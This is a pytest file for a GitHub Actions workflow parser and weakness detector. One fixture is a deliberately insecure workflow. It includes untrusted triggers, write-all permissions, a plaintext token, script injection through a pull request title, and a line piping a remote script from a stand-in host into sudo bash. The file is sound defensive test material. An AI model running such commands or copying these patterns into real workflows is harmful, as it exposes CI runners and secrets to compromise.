import pytest

from collectors.ci.github_actions import claims, parse, pin_of

WORKFLOW = b"""\
name: CI
on:
  push:
    branches: [main]
  pull_request:
  schedule:
    - cron: "0 1 * * *"
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    timeout-minutes: 10
    strategy:
      matrix:
        python-version: [3.10, 3.11]
    steps:
      - uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3
      - uses: actions/setup-python@v5
        with:
          cache: pip
      - run: |
          pip install -e .
          ruff check .
          python -m pytest --cov
      - uses: ./local
  ship:
    runs-on: ubuntu-latest
    environment: production
    steps:
      - uses: docker/build-push-action@master
      - run: kubectl apply -f k8s
"""


def test_a_whole_workflow() -> None:
    reading = parse(".github/workflows/ci.yml", WORKFLOW, "main")
    (made,) = reading.pipelines
    assert (made.name, made.on_change, made.on_schedule, made.jobs, made.timeouts) == ("CI", True, True, 2, 1)
    assert made.steps == ("coverage", "deploy", "lint", "package", "test")
    assert made.environments == ("production",)
    assert made.caches
    assert made.matrix
    assert [(u.name, u.pin, u.line) for u in reading.uses] == [
        ("actions/checkout", "sha", 18), ("actions/setup-python", "tag", 19), ("./local", "local", 26), ("docker/build-push-action", "branch", 31),
    ]  # fmt: skip
    assert reading.weaknesses == ()


HOSTILE = b"""\
on: [pull_request_target, issue_comment]
permissions: write-all
env:
  API_TOKEN: abcd1234efgh5678
  OTHER_TOKEN: ${{ secrets.TOKEN }}
jobs:
  a:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
      - run: |
          true
          curl -sSL https://x.example/i.sh | sudo bash
"""


def test_every_weakness_with_its_line_and_without_the_secret() -> None:
    found = parse(".github/workflows/x.yml", HOSTILE, "").weaknesses
    assert {(w.rule, w.line) for w in found} == {
        ("untrusted-trigger", 10), ("script-injection", 13), ("broad-permissions", 2), ("self-hosted-untrusted", 8),
        ("plain-secret", 4), ("curl-pipe-shell", 16),
    }  # fmt: skip
    assert "abcd1234" not in repr(found)


def test_trusted_fields_and_declared_permissions_are_no_weakness() -> None:
    content = b"on: push\njobs:\n  a:\n    permissions: {}\n    steps:\n      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}\n"
    assert parse(".github/workflows/x.yml", content, "").weaknesses == ()
    silent = b"on: push\njobs:\n  a:\n    steps: []\n"
    assert [w.rule for w in parse(".github/workflows/x.yml", silent, "").weaknesses] == ["no-permissions"]


@pytest.mark.parametrize(
    ("on", "expected"),
    [
        ("push", True), ("[pull_request]", True), ("workflow_dispatch", False), ("{push: {tags: ['v*']}}", False),
        ("{push: {branches: [trunk]}}", False), ("{push: {branches: [main]}}", True), ("{push: {branches: ['**']}}", True),
        ("{schedule: [{cron: '1'}]}", False),
    ],
)  # fmt: skip
def test_on_change(on: str, expected: bool) -> None:
    content = f"on: {on}\njobs:\n  a: {{}}\n".encode()
    assert parse(".github/workflows/x.yml", content, "main").pipelines[0].on_change is expected


def test_pins() -> None:
    assert [pin_of(r) for r in ("a" * 40, "v4", "4.1.0", "main", "", "a" * 39)] == [
        "sha",
        "tag",
        "tag",
        "branch",
        "none",
        "branch",
    ]


def test_a_composite_action_is_no_pipeline_but_its_actions_count() -> None:
    content = b"runs:\n  using: composite\n  steps:\n    - uses: a/b@v1\n"
    reading = parse("action.yml", content, "")
    assert reading.pipelines == ()
    assert [u.name for u in reading.uses] == ["a/b"]


@pytest.mark.parametrize("content", [b"", b"[]", b"on: push", b"jobs: [", b"\xff\xfe\x00"])
def test_what_is_no_workflow_is_a_value_error(content: bytes) -> None:
    with pytest.raises(ValueError, match=r"\w"):
        parse(".github/workflows/x.yml", content, "")


def test_claims() -> None:
    assert claims(".github/workflows/a.yaml")
    assert not claims(".github/workflows/old/a.yaml")
    assert not claims("docs/.github/workflows/a.yaml")


def test_a_cluster_that_lives_for_one_job_is_no_deployment() -> None:
    text = b"on: push\njobs:\n  a:\n    steps:\n      - uses: helm/kind-action@v1\n      - run: kubectl apply -f k8s/\n"
    (pipeline,) = parse(".github/workflows/a.yml", text, "main").pipelines
    assert pipeline.steps == ("test",)
